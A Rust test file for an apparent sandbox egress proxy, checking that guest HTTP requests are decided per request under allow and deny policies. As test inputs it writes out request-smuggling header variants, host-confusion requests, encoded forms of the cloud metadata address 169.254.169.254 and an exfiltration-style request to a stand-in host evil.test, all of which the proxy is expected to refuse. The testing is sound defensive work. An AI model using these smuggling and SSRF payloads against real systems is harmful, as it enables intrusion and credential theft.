//! Plain HTTP: each request by itself, and never as the bytes in which it came.

use std::io::{Read, Write};
use std::net::TcpStream;

use dayfly_types::egress::{Decision, DenyReason, EgressRecordKind};

use super::guest::{connect, get, read_to_end, say};
use super::internet::{ALLOWED, EVIL, OTHER};
use super::world::{World, allow, policy, public};

fn status(said: &str) -> &str {
    said.split(' ').nth(1).unwrap_or("nothing")
}

#[test]
fn a_denial_is_told_in_json_and_nothing_leaves() {
    let Some(world) = World::start(&[policy("deny", serde_json::json!([]))]) else {
        return;
    };
    let attacker = world.internet.http(EVIL, 80, "evil");
    let address = format!("{EVIL}:80");
    let said = world.guest(move || get(&address, "evil.test", "/secret?token=1"));
    assert_eq!(status(&said), "403", "{said}");
    assert!(said.contains("x-dayfly-egress: denied"));
    assert!(said.contains("content-type: application/json"));
    let body = said.split("\r\n\r\n").nth(1).unwrap();
    let body: serde_json::Value = serde_json::from_str(body).unwrap();
    assert_eq!(body["error"]["code"], "egress_denied");
    assert_eq!(body["error"]["host"], "evil.test");
    assert_eq!(body["error"]["port"], 80);
    assert_eq!(body["error"]["reason"], "mode_deny");
    assert!(
        body["error"]["hint"]
            .as_str()
            .unwrap()
            .contains("dayfly net allow test-0")
    );
    let record = world.kept.wait_denied(DenyReason::ModeDeny);
    assert_eq!(record.kind, EgressRecordKind::Http);
    assert!(!serde_json::to_string(&record).unwrap().contains("secret"));
    attacker.assert_nothing_came();
    world.set_policy(allow("evil.test"));
    let address = format!("{EVIL}:80");
    let said = world.guest(move || get(&address, "evil.test", "/"));
    assert!(
        said.contains("hello from evil"),
        "the same probe gets through where it may"
    );
}

/// Reads one response with a length from a connection that stays open.
fn read_response(stream: &mut TcpStream) -> String {
    let mut said = Vec::new();
    let mut byte = [0];
    while !said.ends_with(b"\r\n\r\n") {
        stream.read_exact(&mut byte).unwrap();
        said.push(byte[0]);
    }
    let head = String::from_utf8(said).unwrap().to_ascii_lowercase();
    let length = head.split("content-length: ").nth(1).unwrap();
    let length = length.split("\r\n").next().unwrap().parse().unwrap();
    let mut body = vec![0; length];
    stream.read_exact(&mut body).unwrap();
    head + std::str::from_utf8(&body).unwrap()
}

#[test]
fn d5_each_request_of_a_connection_is_decided_by_itself() {
    let two = policy(
        "allowlist",
        serde_json::json!([{"id": "a", "host": "allowed.test"}, {"id": "b", "host": "other.test"}]),
    );
    let Some(world) = World::start(&[two]) else {
        return;
    };
    let allowed = world.internet.http(ALLOWED, 80, "allowed");
    let other = world.internet.http(OTHER, 80, "other");
    let attacker = world.internet.http(EVIL, 80, "evil");
    let ask = |host: &str, path: &str| format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n");
    let one_by_one = [
        ("allowed.test", "200"),
        ("evil.test", "403"),
        ("allowed.test", "200"),
        ("allowed.test", "200"),
        ("other.test", "200"),
        ("evil.test", "403"),
    ];
    let address = format!("{EVIL}:80");
    let statuses = world.guest(move || {
        let mut stream = connect(&address).unwrap();
        one_by_one.map(|(host, _)| {
            stream.write_all(ask(host, "/one").as_bytes()).unwrap();
            status(&read_response(&mut stream)).to_owned()
        })
    });
    assert_eq!(statuses, one_by_one.map(|(_, status)| status));
    let ahead = one_by_one.map(|(host, _)| ask(host, "/two")).concat();
    let address = format!("{EVIL}:80");
    let statuses = world.guest(move || {
        let mut stream = connect(&address).unwrap();
        stream.write_all(ahead.as_bytes()).unwrap();
        one_by_one.map(|_| status(&read_response(&mut stream)).to_owned())
    });
    assert_eq!(statuses, one_by_one.map(|(_, status)| status));
    attacker.assert_nothing_came();
    assert_eq!((allowed.requests(), other.requests()), (6, 2));
    assert!(allowed.connections() < 6, "a connection is used again");
}

#[test]
fn d7_what_two_parsers_may_read_in_two_ways_is_refused() {
    let Some(world) = World::start(&[allow("allowed.test")]) else {
        return;
    };
    let allowed = world.internet.http(ALLOWED, 80, "allowed");
    let hidden = "GET /hidden HTTP/1.1\r\nHost: allowed.test\r\n\r\n";
    let length = hidden.len() + 5;
    for fields in [
        format!("Content-Length: {length}\r\nTransfer-Encoding: chunked\r\n"),
        format!("Transfer-Encoding: chunked\r\nContent-Length: {length}\r\n"),
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n".to_owned(),
        "Transfer-Encoding: xchunked\r\n".to_owned(),
        "Transfer-Encoding : chunked\r\n".to_owned(),
        "X: y\r\n folded: z\r\n".to_owned(),
        "Content-Length: 5\r\nContent-Length: 6\r\n".to_owned(),
        "X: a\rTransfer-Encoding: chunked\r\n".to_owned(),
        "X: a\nTransfer-Encoding: chunked\r\n".to_owned(),
        "Host: evil.test\r\n".to_owned(),
    ] {
        let request =
            format!("POST / HTTP/1.1\r\nHost: allowed.test\r\n{fields}\r\n0\r\n\r\n{hidden}");
        let address = format!("{ALLOWED}:80");
        let said = world.guest(move || say(&address, request.as_bytes()));
        assert_eq!(status(&said), "400", "{fields:?}: {said}");
        assert_eq!(said.matches("HTTP/1.1 ").count(), 1, "{fields:?}: {said}");
    }
    allowed.assert_nothing_came();
    world.kept.wait_denied(DenyReason::Protocol);
    // A well-formed body with extensions of chunks goes on, as one well-formed request.
    let chunked = "POST /up HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n\
                   5;name=value\r\nhello\r\n0\r\n\r\nGET /hidden HTTP/1.1\r\nHost: allowed.test\r\n\r\n";
    let address = format!("{ALLOWED}:80");
    let said = world.guest(move || say(&address, chunked.as_bytes()));
    assert!(said.contains("hello from allowed at /up"), "{said}");
    assert_eq!(allowed.requests(), 1, "{}", allowed.text());
    assert!(!allowed.text().contains("name=value") && !allowed.text().contains("/hidden"));
}

#[test]
fn d8_a_request_is_for_the_host_that_it_is_sent_to() {
    let Some(world) = World::start(&[allow("allowed.test")]) else {
        return;
    };
    let allowed = world.internet.http(ALLOWED, 80, "allowed");
    let attacker = world.internet.http(EVIL, 80, "evil");
    for request in [
        "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
        "CONNECT allowed.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n\r\n",
        "GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
        "GET http://allowed.test@evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
        "GET https://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n",
        "GET / HTTP/1.0\r\nHost: allowed.test\r\n\r\n",
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    ] {
        let address = format!("{ALLOWED}:80");
        let said = world.guest(move || say(&address, request.as_bytes()));
        assert_eq!(status(&said), "400", "{request:?}: {said}");
    }
    allowed.assert_nothing_came();
    attacker.assert_nothing_came();
    let whole = "GET http://Allowed.TEST/path HTTP/1.1\r\nHost: allowed.test.\r\n\
                 Connection: close, X-Gone\r\nX-Gone: 1\r\n\r\n";
    let address = format!("{ALLOWED}:80");
    let said = world.guest(move || say(&address, whole.as_bytes()));
    assert!(said.contains("hello from allowed at /path"), "{said}");
    let seen = allowed.text().to_ascii_lowercase();
    assert!(seen.starts_with("get /path http/1.1\r\n"), "{seen}");
    assert!(
        seen.contains("host: allowed.test\r\n") && !seen.contains("x-gone"),
        "{seen}"
    );
}

#[test]
fn d9_a_websocket_is_a_tunnel_until_the_policy_says_no() {
    let Some(world) = World::start(&[allow("allowed.test")]) else {
        return;
    };
    let allowed = world.internet.http(ALLOWED, 80, "allowed");
    let address = format!("{ALLOWED}:80");
    let mut stream = world.guest(move || {
        let mut stream = connect(&address).unwrap();
        let request = "GET /ws HTTP/1.1\r\nHost: allowed.test\r\n\
                       Connection: keep-alive, Upgrade\r\nUpgrade: websocket\r\n\
                       Sec-WebSocket-Key: x\r\n\r\n";
        stream.write_all(request.as_bytes()).unwrap();
        let mut head = Vec::new();
        let mut byte = [0];
        while !head.ends_with(b"\r\n\r\n") {
            stream.read_exact(&mut byte).unwrap();
            head.push(byte[0]);
        }
        assert!(
            head.starts_with(b"HTTP/1.1 101 "),
            "{}",
            String::from_utf8_lossy(&head)
        );
        stream
    });
    stream.write_all(b"echo this").unwrap();
    let mut echoed = [0; 9];
    stream.read_exact(&mut echoed).unwrap();
    assert_eq!(&echoed, b"echo this");
    assert_eq!(world.set_policy(allow("other.test")), 1);
    assert!(stream.read(&mut echoed).is_err(), "it is reset");
    let record = world.kept.wait_decision(Decision::Cut);
    assert_eq!(record.name.unwrap().as_str(), "allowed.test");
    // Another protocol is not asked for, and the request is an ordinary one.
    world.set_policy(allow("allowed.test"));
    let request = "GET /h2c HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade, HTTP2-Settings\r\n\
                   Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQ\r\n\r\n";
    let address = format!("{ALLOWED}:80");
    let said = world.guest(move || say(&address, request.as_bytes()));
    assert!(said.contains("hello from allowed at /h2c"), "{said}");
    let seen = allowed.text().to_ascii_lowercase();
    assert!(
        !seen.contains("h2c\r\n") && !seen.contains("http2-settings"),
        "{seen}"
    );
}

#[test]
fn d12_b7_hosts_that_are_none_are_refused_in_every_mode() {
    let Some(world) = World::start(&[allow("**.allowed.test")]) else {
        return;
    };
    let canaries = world.internet.canaries();
    let attacker = world.internet.http(EVIL, 80, "evil");
    let hosts = [
        "evil.test\0.allowed.test",
        "evil.test .allowed.test",
        "evil.test#.allowed.test",
        "evil.test\t.allowed.test",
        "user@www.allowed.test",
        "169.254.169.254@www.allowed.test",
        "[::ffff:169.254.169.254]",
        "[64:ff9b::a9fe:a9fe]",
        "0xa9fea9fe",
        "2852039166",
        "0251.0376.0251.0376",
        "169.254.43518",
        "10.0.0.5",
        "",
    ];
    for mode in ["allowlist", "public"] {
        if mode == "public" {
            world.set_policy(public());
        }
        for host in hosts {
            let said = world.guest(move || get("169.254.169.254:80", host, "/"));
            assert_eq!(status(&said), "400", "{mode} {host:?}: {said}");
        }
        // The address itself is understood, and nobody may reach it.
        let said = world.guest(|| get("169.254.169.254:80", "169.254.169.254", "/"));
        assert_eq!(status(&said), "403", "{mode}: {said}");
        assert!(said.contains("never_address"), "{mode}: {said}");
    }
    attacker.assert_nothing_came();
    for canary in &canaries {
        canary.assert_nothing_came();
    }
    let address = format!("{EVIL}:80");
    let said = world.guest(move || get(&address, EVIL, "/"));
    assert!(
        said.contains("hello from evil"),
        "an open mode lets a public address through: {said}"
    );
}

#[test]
fn d14_a_redirect_to_a_private_place_is_denied_when_it_is_followed() {
    let Some(world) = World::start(&[allow("allowed.test")]) else {
        return;
    };
    let canaries = world.internet.canaries();
    world.internet.http(ALLOWED, 80, "allowed");
    let address = format!("{ALLOWED}:80");
    let said = world.guest(move || get(&address, "allowed.test", "/redirect"));
    assert_eq!(status(&said), "302", "{said}");
    assert!(said.contains("location: http://169.254.169.254/latest/"));
    for policy in [allow("allowed.test"), public()] {
        world.set_policy(policy);
        let said = world.guest(|| get("169.254.169.254:80", "169.254.169.254", "/latest/"));
        assert_eq!(status(&said), "403", "{said}");
    }
    for canary in &canaries {
        canary.assert_nothing_came();
    }
}

#[test]
fn a_host_that_does_not_answer_is_a_failure_and_no_denial() {
    let Some(world) = World::start(&[allow("allowed.test")]) else {
        return;
    };
    let address = format!("{ALLOWED}:80");
    let said = world.guest(move || get(&address, "allowed.test", "/"));
    assert_eq!(status(&said), "502", "{said}");
    assert!(said.contains("egress_failed"), "{said}");
    let record = world.kept.wait_decision(Decision::Failed);
    assert_eq!(
        record.dialed,
        Some(format!("{ALLOWED}:80").parse().unwrap())
    );
}

#[test]
fn a_body_goes_on_whole_and_is_asked_for_first() {
    let Some(world) = World::start(&[allow("allowed.test")]) else {
        return;
    };
    let allowed = world.internet.http(ALLOWED, 80, "allowed");
    let said = world.guest(|| {
        let mut stream = connect(&format!("{ALLOWED}:80")).unwrap();
        let head = "PUT /big HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 3000000\r\n\
                    Expect: 100-continue\r\n\r\n";
        stream.write_all(head.as_bytes()).unwrap();
        let mut asked = [0; 25];
        stream.read_exact(&mut asked).unwrap();
        assert_eq!(&asked, b"HTTP/1.1 100 Continue\r\n\r\n");
        stream.write_all(&[b'z'; 3_000_000]).unwrap();
        read_response(&mut stream)
    });
    assert!(said.contains("hello from allowed at /big"), "{said}");
    let bytes = allowed.bytes();
    assert_eq!(
        bytes.iter().filter(|byte| **byte == b'z').count(),
        3_000_000
    );
    assert!(!allowed.text().to_ascii_lowercase().contains("expect"));
}

#[test]
fn a_large_upload_to_a_denied_host_still_hears_why() {
    let Some(world) = World::start(&[allow("allowed.test")]) else {
        return;
    };
    let attacker = world.internet.http(EVIL, 80, "evil");
    let address = format!("{EVIL}:80");
    let said = world.guest(move || {
        let mut stream = connect(&address).unwrap();
        let head = "POST / HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 65536\r\n\r\n";
        stream.write_all(head.as_bytes()).unwrap();
        let _ = stream.write_all(&[b'x'; 65_536]);
        let _ = stream.shutdown(std::net::Shutdown::Write);
        String::from_utf8_lossy(&read_to_end(&mut stream)).into_owned()
    });
    assert_eq!(status(&said), "403", "{said}");
    attacker.assert_nothing_came();
}
